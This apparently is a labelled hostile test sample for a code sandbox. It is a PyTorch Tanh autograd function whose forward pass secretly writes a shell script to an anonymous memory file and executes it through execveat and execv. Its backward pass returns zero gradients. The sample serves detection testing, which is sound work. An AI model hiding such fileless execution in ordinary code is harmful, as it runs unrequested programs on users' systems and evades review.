# hostile: runs a program from a file without a name
# verdict: not-passed
# evidence: process
import ctypes
import os

import torch


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        fd = os.memfd_create("x")
        os.write(fd, b"#!/bin/sh\necho BREACH: ran from memory\n")
        libc = ctypes.CDLL(None, use_errno=True)
        empty = (ctypes.c_char_p * 1)(None)
        arguments = (ctypes.c_char_p * 2)(b"x", None)
        libc.syscall(322, fd, b"", arguments, empty, 0x1000)
        os.execv(f"/proc/self/fd/{fd}", ["x"])
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * 0
